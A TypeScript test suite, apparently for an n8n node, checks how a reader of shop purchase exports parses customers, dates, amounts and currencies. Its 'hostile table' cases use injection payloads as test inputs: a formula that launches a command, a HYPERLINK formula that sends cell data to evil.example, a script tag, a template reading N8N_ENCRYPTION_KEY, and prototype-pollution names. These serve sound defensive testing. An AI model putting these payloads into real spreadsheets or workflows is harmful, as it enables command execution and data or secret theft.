import fc from 'fast-check';
import { readPurchases } from '../../../boundary/reading/purchases';
import { createZone, dayOfDate } from '../../../domain/time';
import hostile from '../../fixtures/hostile.json';
import english from '../../fixtures/plain_english.json';
import persian from '../../fixtures/plain_persian.json';
import russian from '../../fixtures/plain_russian.json';
import ukrainian from '../../fixtures/plain_ukrainian.json';
import rawMonth from '../../reference/raw_month.json';
import { readCsv } from '../../support/files.cjs';
import {
	buyersOf,
	daysOf,
	deepFrozen,
	faultyRows,
	hintsOn,
	itemsOf,
	leftOutOf,
	outcomeOf,
	problemsOf,
	readingOf,
	type Rows,
	settingsWith,
	spentOf,
	today,
	warningsOn,
} from '../../support/reading';

describe.each(Object.entries({ english, ukrainian, russian, persian }))('a shop export in %s', (language, { rows, expected }) => {
	// The calendar is the one thing that a user of Jalali dates says.
	const changes = language === 'persian' ? ({ dateFormat: 'jalali', asOf: { kind: 'automatic', today: dayOfDate(2025, 7, 1) } } as const) : {};

	it('is read without a setting: people, orders, days', () => {
		const reading = readingOf(rows, changes);
		expect(reading.problems).toEqual([]);
		expect(buyersOf(reading)).toHaveLength(expected.customers);
		expect(reading.history.row).toHaveLength(expected.orders);
		expect(daysOf(reading)).toEqual(expected.days);
	});

	it('adds up, a currency at a time', () => {
		const sums = Object.values(spentOf(readingOf(rows, changes))).sort((one, other) => one - other);
		expect(sums).toEqual(Object.values<string>(expected.totals).map(Number).sort((one, other) => one - other));
	});

	it('has as many customers by each column that could tell them apart', () => {
		for (const customer of expected.customerAlternatives) {
			expect(buyersOf(readingOf(rows, { ...changes, columns: { customer } }))).toHaveLength(expected.customers);
		}
	});
});

const hintTakenFrom = (rows: Rows): string => hintsOn(rows)[0].message;

/** Tables that go wrong in real life: `expect` in the fixture says what a careful person would want, the comments where DESIGN wants it otherwise. */
describe('a hostile table', () => {
	const rowsOf = (id: string): Rows => hostile.cases.find((each) => each.id === id)!.rows;

	const cases: Record<string, { faults?: Record<string, number[]>; buyers?: unknown[]; spent?: Record<string, number>; leftOut?: Record<string, number> }> = {
		blankCustomer: { faults: { blankCustomer: [2, 3, 4, 5, 6] }, buyers: ['ann@example.com'], spent: { '': 10 } },
		// The fixture takes "00" for an id; it is customer 0 in another coat, which DESIGN never lets be a person.
		customerZero: { buyers: ['00', '10'], leftOut: { guest: 2 }, spent: { '': 70 } },
		customerColumnWithoutAnything: { faults: { columnNotRecognised: [0] } },
		// The fixture takes "undefined" for a name here and for nothing in blankCustomer; it is what programs write for nothing.
		prototypeNames: { faults: { blankCustomer: [6] }, buyers: ['__proto__', '__proto__.x', 'constructor', 'hasOwnProperty', 'toString'], spent: { '': 15 } },
		prototypeColumns: { buyers: ['ann', 'bob'], spent: { '': 3 } },
		formulas: { buyers: ['+380675550112', "-cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?"&A1,"Click")'], spent: { '': 60 } },
		markup: { buyers: ['<b>Ann</b> & Co', '<script>alert(1)</script>', 'Ann\nBob', '{{ $env.N8N_ENCRYPTION_KEY }}'], spent: { '': 100 } },
		leadingZeros: { buyers: expect.arrayContaining(['007', '07', '7']) as never, spent: { '': 100 } },
		// The fixture joins 17850.0 with 17850; DESIGN leaves that to a setting, see customerColumn.test.ts.
		pointZero: { buyers: ['17850', '17850.0', '17850.5'], spent: { '': 100 } },
		bigIds: { buyers: ['9007199254740993001', '9007199254740993002', '9007199254740993003'] },
		sameMailOtherCase: { buyers: ['ann.lee@example.com'], spent: { '': 60 } },
		duplicatesWithOrder: { faults: { duplicateRow: [2] }, buyers: ['ann', 'bob'], spent: { '': 50 } },
		duplicatesWithoutOrder: { buyers: ['ann'], spent: { '': 6 } },
		sameOrderOtherAmount: { buyers: ['ann'], spent: { '': 30 } },
		unreadableDates: { faults: { unreadableDate: [2, 3, 4, 5, 6, 7, 8] }, buyers: ['ann'], spent: { '': 10 } },
		ambiguousDates: { faults: { ambiguousDate: [1, 2] }, buyers: [] },
		slashDatesDecidedByTheColumn: { buyers: ['ann', 'bob'] },
		slashDatesContradict: { faults: { ambiguousDate: [3] }, buyers: ['ann', 'bob'] },
		twoDigitYears: { faults: { ambiguousDate: [1] }, buyers: [] },
		epochs: { buyers: ['ann', 'bob', 'cat'] },
		spreadsheetSerials: { faults: { unreadableDate: [1, 2] }, buyers: [] },
		jalaliUnsaid: { faults: { unreadableDate: [1] }, buyers: [] },
		midnightAndOffsets: { buyers: ['ann'] },
		commaThousands: { buyers: ['ann', 'bob', 'cat'], spent: { '': 16079.6 } },
		// The fixture's code is unreadableAmount; DESIGN has a code of its own for what reads in two ways.
		commaAlone: { faults: { ambiguousAmount: [1, 2] }, buyers: [] },
		commaDecimal: { buyers: ['ann', 'bob', 'cat'], spent: { '': 2568.9 } },
		unreadableAmounts: { faults: { unreadableAmount: [2, 3, 4, 5, 6] }, buyers: ['ann'], spent: { '': 10 } },
		blankAmounts: { faults: { unreadableAmount: [2, 3] }, buyers: ['ann'] },
		negativeAmounts: { buyers: ['ann'] },
		zeroAmounts: { buyers: ['ann'], leftOut: { zeroPrice: 2 } },
		tinyAmounts: { buyers: ['ann'], spent: { '': 0.3001 } },
		// A row per currency, so nothing is wrong with the rows.
		twoCurrencies: { buyers: ['ann', 'bob'], spent: { USD: 30, EUR: 40 } },
		currencyInTheAmount: { buyers: ['ann', 'bob', 'cat'], spent: { $: 10, EUR: 20, UAH: 30 } },
		currencySpelling: { buyers: ['ann', 'bob', 'cat'], spent: { USD: 60 } },
		futureDates: { faults: { startsInFuture: [2, 3] }, buyers: ['ann'], spent: { '': 10 } },
		onAsOf: { buyers: ['ann', 'bob'] },
		// Subscriptions: this node takes purchases, so it asks for the date rather than guess one.
		endsBeforeItStarts: { faults: { columnNotRecognised: [0] } },
		emptyWords: { faults: { columnNotRecognised: [0] } },
		totalRow: { faults: { unreadableDate: [3] }, buyers: ['ann', 'bob'], spent: { '': 30 } },
		nested: { buyers: ['ann@example.com', 'bob@example.com'] },
		emptyItem: {},
		cutList: { buyers: ['ann', 'bob'] },
		headersWithNoise: { buyers: ['ann@example.com'], spent: { '': 10 } },
	};

	it('has an answer here, every one in the fixture', () => expect(hostile.cases.map(({ id }) => id)).toEqual(Object.keys(cases)));

	it.each(hostile.cases.map(({ id, expect: careful, zone }) => [id, careful, zone ?? 'UTC']))('%s: %s', (id, _, zone) => {
		const { faults = {}, buyers, spent, leftOut } = cases[id];
		const outcome = outcomeOf(rowsOf(id), { zone });
		expect(faultyRows(rowsOf(id), { zone })).toEqual(faults);
		if (buyers) expect('reading' in outcome && buyersOf(outcome.reading)).toEqual(buyers);
		if (spent) expect('reading' in outcome && spentOf(outcome.reading)).toEqual(spent);
		if (leftOut) expect('reading' in outcome && leftOutOf(outcome.reading)).toEqual(leftOut);
	});

	it('of one empty item is the empty input', () => {
		expect(outcomeOf([{}])).toEqual({ isEmpty: true });
		expect(outcomeOf([{ customer: '', date: null }, {}])).toEqual({ isEmpty: true });
		expect(outcomeOf([])).toEqual({ isEmpty: true });
	});

	it('in Kyiv has its midnight in Kyiv', () => {
		const zone = 'Europe/Kyiv';
		expect(daysOf(readingOf(rowsOf('midnightAndOffsets'), { zone }))).toEqual(['2024-03-15', '2024-03-15', '2024-03-15', '2024-03-14']);
	});

	it('with epochs has them all on one day', () => expect(daysOf(readingOf(rowsOf('epochs')))).toEqual(['2024-03-14', '2024-03-14', '2024-03-14']));

	it.each([
		['unreadableDates', 1],
		['zeroAmounts', 1],
		['negativeAmounts', 1],
		['futureDates', 1],
		['totalRow', 2],
		['ambiguousDates', 0],
	])('%s: the hint tells of %i customers, those who bought', (id, customers) => {
		const message = hintTakenFrom(rowsOf(id));
		expect(message).toMatch(new RegExp(`of ${customers} customers?\\b`));
	});

	it('slashDatesContradict: the user is told that the column has days first and months first', () => {
		const text = [...warningsOn(rowsOf('slashDatesContradict')), ...problemsOf(rowsOf('slashDatesContradict')).map(({ code }) => code)].join(' ');
		expect(text).toMatch(/both|contradict|mix/i);
	});

	it('pointZero: the user is told that 17850 and 17850.0 stand side by side', () => {
		expect(warningsOn(rowsOf('pointZero')).join(' ')).toContain('.0');
	});
});

describe('the raw first month of Online Retail', () => {
	const lines = readCsv('templates/data/online_retail_raw_2010_12.csv');
	const { kinds, kept } = rawMonth;
	const automatic = readingOf(lines);

	it('is recognised, and every line is accounted for once', () => {
		expect(automatic.source.id).toBe('onlineRetail');
		expect(lines).toHaveLength(rawMonth.lines);
		expect(leftOutOf(automatic)).toEqual({
			cancelled: kinds.cancelledWithCustomer + kinds.cancelledWithoutCustomer,
			guest: kinds.withoutCustomer + kinds.withoutCustomerZeroPrice + kinds.withoutCustomerNegativeQuantity,
			zeroPrice: kinds.zeroPriceWithCustomer,
		});
		const leftOut = Object.values(leftOutOf(automatic)).reduce((sum, count) => sum + count, 0);
		expect(automatic.history.row.length + leftOut).toBe(rawMonth.lines);
		expect(automatic.problems).toEqual([]);
	});

	it('has 1,400 invoices of 885 customers, worth 572,713.89', () => {
		expect(automatic.history.row).toHaveLength(kept.lines);
		expect(automatic.orders).toBe(kept.invoices);
		expect(buyersOf(automatic)).toHaveLength(kept.customers);
		expect(spentOf(automatic)['']).toBe(Number(kept.amount));
		expect([automatic.refunds, automatic.currencies]).toEqual([0, []]);
	});

	it('tells the same in its hint', () => {
		expect(hintTakenFrom(lines)).toBe(
			'Online Retail Lines: 26,157 lines in 1,400 orders of 885 customers, worth 572,713.89, 2010-12-01 to 2010-12-23. ' +
				'Left out: 728 cancelled, 15,593 without a customer, 3 with an amount of 0. ' +
				'Columns: customer "CustomerID", date "InvoiceDate", amount "Quantity × UnitPrice", order "InvoiceNo". ' +
				'As of 2010-12-24 (the day after the last row, which is more than 7 days old).',
		);
	});

	it('has the same customers, by number, as December in the invoice file', () => {
		const invoices = readCsv('templates/data/online_retail_invoices.csv');
		const december = invoices.filter((row) => /^2010-12/.test(Object.values(row).find((cell) => /^\d{4}-\d\d-\d\d/.test(cell)) ?? ''));
		const ofInvoices = readingOf(december);
		const byNumber = readingOf(lines, { dropsTrailingZero: true });
		expect(buyersOf(byNumber).map(Number)).toEqual(buyersOf(ofInvoices).map(Number));
		expect(ofInvoices.history.row).toHaveLength(kept.invoices);
		expect(spentOf(ofInvoices)['']).toBe(Number(kept.amount));
	});

	it('has ids that are other people than those of the invoice file unless 17850.0 is read as 17850', () => {
		expect(buyersOf(automatic)[0]).toMatch(/^\d+\.0$/);
		expect(buyersOf(readingOf(lines, { dropsTrailingZero: true }))[0]).toMatch(/^\d+$/);
	});

	it('keeps cancelled invoices where the user says so', () => {
		const withCancelled = readingOf(lines, { keepsCancelled: true });
		expect(leftOutOf(withCancelled).cancelled).toBeUndefined();
		expect(withCancelled.refunds).toBe(kinds.cancelledWithCustomer);
		expect(spentOf(withCancelled)['']).toBe(Number(rawMonth.ifCancellationsWereKept.amount));
	});
});

describe('columns', () => {
	const row = { customer: 'ann', date: '2024-03-14', amount: 10 };

	it('that the user chose and the rows lack are missing, each by its name', () => {
		expect(problemsOf([row], { columns: { customer: 'who', amount: 'worth' }, groupBy: ['plan'] })).toEqual(
			['who', 'worth', 'plan'].map((column) => ({ code: 'missingColumn', item: null, column, received: undefined })),
		);
	});

	it('that few rows have are not missing, wherever those rows stand', () => {
		const rows = Array.from({ length: 1000 }, (_, index) => ({ ...row, customer: `c${index}`, ...(index === 7 ? { plan: 'Gold' } : {}) }));
		expect(problemsOf(rows, { groupBy: ['plan'] })).toEqual([]);
	});

	it('are found whatever the order of the rows, also where few rows have them', () => {
		const rows = Array.from({ length: 1000 }, (_, index) => ({ ...row, customer: `c${index}`, ...(index === 10 ? { currency: 'EUR' } : {}) }));
		const rotated = [...rows.slice(3), ...rows.slice(0, 3)];
		expect(readingOf(rotated).layout.currency).toBe(readingOf(rows).layout.currency);
	});

	it('of names that are alike are chosen the same in any order of the rows', () => {
		const rows = [{ ...row, customer: '', Email: 'a@example.com' }, { ...row, customer: '', 'e-mail': 'b@example.com' }];
		expect(readingOf([...rows].reverse()).layout.customer).toBe(readingOf(rows).layout.customer);
	});

	it('to group by have at most 1,000 values', () => {
		const rowsWith = (count: number) => Array.from({ length: count }, (_, index) => ({ ...row, customer: index + 1, plan: `p${index}` }));
		expect(problemsOf(rowsWith(1000), { groupBy: ['plan'] })).toEqual([]);
		expect(problemsOf(rowsWith(1001), { groupBy: ['plan'] })).toEqual([{ code: 'tooManyGroups', item: null, column: 'plan', received: 1001 }]);
	});

	it('whose amounts may be cents end the reading with one question', () => {
		expect(problemsOf([{ ...row, amount: 1999, currency: 'usd' }])).toEqual([{ code: 'ambiguousAmountUnit', item: null, column: 'amount', received: 1999 }]);
	});
});

describe('one broken row', () => {
	it('in 100,000 is named by its place', () => {
		const rows = Array.from({ length: 100_000 }, (_, index) => ({ customer: index + 1, date: index === 98_764 ? 'soon' : '2024-03-14', amount: 1 }));
		const reading = readingOf(rows);
		expect(reading.problems).toEqual([{ code: 'unreadableDate', item: 98_764, column: 'date', received: 'soon' }]);
		expect(reading.history.row).toHaveLength(99_999);
	});
});

describe('As Of', () => {
	const rows = [{ customer: 'ann', date: '2024-03-14' }, { customer: 'bob', date: '2024-06-28' }, { customer: 'cat', date: '2124-01-01' }];

	it('is not moved by a slip of the finger in the next century', () => {
		expect(readingOf(rows).asOf).toEqual({ day: today, today, how: 'today' });
		expect(readingOf([rows[0], rows[2]]).asOf).toEqual({ day: dayOfDate(2024, 3, 15), today, how: 'dayAfterLastEvent' });
	});

	it('as chosen leaves out what lies after it and counts it; nothing is in the future then', () => {
		const reading = readingOf(rows, { asOf: { kind: 'day', day: dayOfDate(2024, 3, 14), today } });
		expect(buyersOf(reading)).toEqual(['ann']);
		expect(leftOutOf(reading)).toEqual({ afterAsOf: 2 });
		expect(reading.problems).toEqual([]);
	});
});

describe('visits', () => {
	it('count whatever the amount, and the amount need not be readable', () => {
		const reading = readingOf(
			[0, -5, '', 'free'].map((amount, index) => ({ customer: index + 1, date: '2024-03-14', amount })),
			{ rowsAre: 'visits' },
		);
		expect(buyersOf(reading)).toEqual([1, 2, 3, 4]);
		expect([reading.problems, leftOutOf(reading), reading.history.amount]).toEqual([[], {}, null]);
	});

	it('of an amount column that the user chose are worth something and count all the same', () => {
		const reading = readingOf([{ customer: 1, date: '2024-03-14', amount: 0 }, { customer: 2, date: '2024-03-14', amount: -5 }], {
			rowsAre: 'visits',
			columns: { amount: 'amount' },
		});
		expect(buyersOf(reading)).toEqual([1, 2]);
	});
});

describe('any rows', () => {
	const hostileText = fc.constantFrom('__proto__', 'constructor', 'toString', 'a.b', '["x"]', '', '💸', 'null', '0', '00', '=1+1', '\u200b', ' ');
	const cell = {
		customer: fc.oneof(fc.constantFrom('ann', 'bob', 7, '7', '07', 0, null, true, 'Ann@example.com', '17850.0'), hostileText, fc.jsonValue({ maxDepth: 0 })),
		date: fc.oneof(fc.constantFrom('2024-03-14', '2024-06-30', '2024-06-30T12:00:00Z', '3/4/2024', '25/3/2024', 1710374400, 'soon', '', null, '2124-01-01'), hostileText),
		amount: fc.oneof(fc.constantFrom(10, 0, -5, '1,234', '12,50', '€5', 'free', null, 1e15, 0.1), hostileText),
		order: fc.constantFrom('A-1', 'A-2', '', null),
		status: fc.constantFrom('paid', 'cancelled', 'Скасовано', '', null),
		currency: fc.constantFrom('EUR', 'usd', '', null),
	};
	const rows = fc.array(fc.record(cell, { requiredKeys: [] }), { minLength: 1, maxLength: 30 });
	const hostileName = fc.oneof(hostileText, fc.string());

	it('end, each in exactly one place: in the history, left out with a reason, or as a problem', () => {
		fc.assert(
			fc.property(rows, fc.constantFrom('purchases' as const, 'visits' as const), (given, rowsAre) => {
				const outcome = outcomeOf(given, { rowsAre });
				if (!('reading' in outcome)) return;
				const { reading } = outcome;
				const leftOut = Object.values(leftOutOf(reading)).reduce((sum, count) => sum + count, 0);
				expect(reading.history.row.length + leftOut).toBe(given.length);
				expect(reading.problems.length).toBe(leftOutOf(reading).unusable ?? 0);
				const problemItems = new Set(reading.problems.map(({ item }) => item));
				expect(problemItems.size).toBe(reading.problems.length);
				expect([...reading.itemOfRow].some((item) => problemItems.has(item))).toBe(false);
				expect(new Set(reading.itemOfRow).size).toBe(reading.history.row.length);
			}),
			{ numRuns: 500 },
		);
	});

	it('give the same totals in any order', () => {
		const shuffled = rows.chain((given) => fc.tuple(fc.constant(given), fc.shuffledSubarray(given, { minLength: given.length })));
		const totalsOf = (given: Rows) => {
			const outcome = outcomeOf(given);
			if ('isEmpty' in outcome) return 'empty';
			if (!('reading' in outcome)) return outcome.problems.map(({ code, column }) => [code, column]);
			const { reading } = outcome;
			const codes = reading.problems.map(({ code, column }) => `${code} ${column}`).sort();
			const { firstDay, lastDay } = reading.history;
			return [buyersOf(reading), spentOf(reading), leftOutOf(reading), codes, reading.asOf, firstDay, lastDay, reading.refunds, reading.orders, reading.currencies];
		};
		fc.assert(
			fc.property(shuffled, ([given, other]) => expect(totalsOf(other)).toEqual(totalsOf(given))),
			{ numRuns: 500 },
		);
	});

	it('with an object that cannot turn into text where a name is looked for do not throw', () => {
		const given = [{ order: { toString: 0 }, customer: { toString: 0 }, status: { toString: 0 }, date: '2024-03-14', amount: 1, currency: { toString: 0 } }];
		expect(() => readPurchases(itemsOf(given), settingsWith({ columns: { customer: 'customer', order: 'order' } }))).not.toThrow();
	});

	it('of arbitrary JSON never throw and stay as they were', () => {
		const items = fc.array(fc.dictionary(hostileName, fc.jsonValue()), { maxLength: 10 });
		fc.assert(
			fc.property(items, hostileName, (given, name) => {
				const before = JSON.stringify(given);
				const frozen = deepFrozen(given);
				for (const columns of [{}, { customer: name, date: name, amount: name, order: name, currency: name }]) {
					readPurchases(itemsOf(frozen), { ...settingsWith({ columns }), zone: createZone('Europe/Kyiv'), groupBy: [name].filter((each) => each !== '') });
				}
				expect(JSON.stringify(given)).toBe(before);
			}),
			{ numRuns: 500 },
		);
	});

	it('may have columns of any name', () => {
		fc.assert(
			fc.property(fc.uniqueArray(hostileName.filter((name) => name.trim() !== ''), { minLength: 3, maxLength: 3 }), ([customer, date, amount]) => {
				const given = [Object.fromEntries([[customer, 'ann'], [date, '2024-03-14'], [amount, 12.5]])];
				const reading = readingOf(given, { columns: { customer, date, amount }, groupBy: [customer] });
				expect([buyersOf(reading), spentOf(reading), daysOf(reading)]).toEqual([['ann'], { '': 12.5 }, ['2024-03-14']]);
			}),
		);
	});
});

describe('an amount of 0', () => {
	const rows = [
		{ customer: 'Ada', date: '2024-06-01', amount: 0 },
		{ customer: 'Ada', date: '2024-06-02', amount: 5 },
	];

	it('is left out where purchases bring money, and counts where an order that a voucher paid for is one', () => {
		expect([leftOutOf(readingOf(rows)), readingOf(rows).history.row.length]).toEqual([{ zeroPrice: 1 }, 1]);
		expect([leftOutOf(readingOf(rows, { countsZeroAmounts: true })), readingOf(rows, { countsZeroAmounts: true }).history.row.length]).toEqual([{}, 2]);
	});

	it('is left out in any case where it is a price of 0', () => {
		const lines = rows.map(({ amount, ...row }) => ({ ...row, price: amount, quantity: 2 }));
		expect(leftOutOf(readingOf(lines, { countsZeroAmounts: true }))).toEqual({ zeroPrice: 1 });
	});
});

it('does not take rows with a dash for an order number as one order: 5 and 10 are not taken back by 15', () => {
	const rows = [
		{ customer: 'Ada', date: '2024-06-01', order: '-', amount: 5 },
		{ customer: 'Ada', date: '2024-06-02', order: '-', amount: 10 },
		{ customer: 'Ada', date: '2024-06-03', order: '-', amount: -15 },
		{ customer: 'Ada', date: '2024-06-04', order: 'A1', amount: 2 },
	];
	expect(readingOf(rows, { netsRefunds: true }).reversal).toBeNull();
});
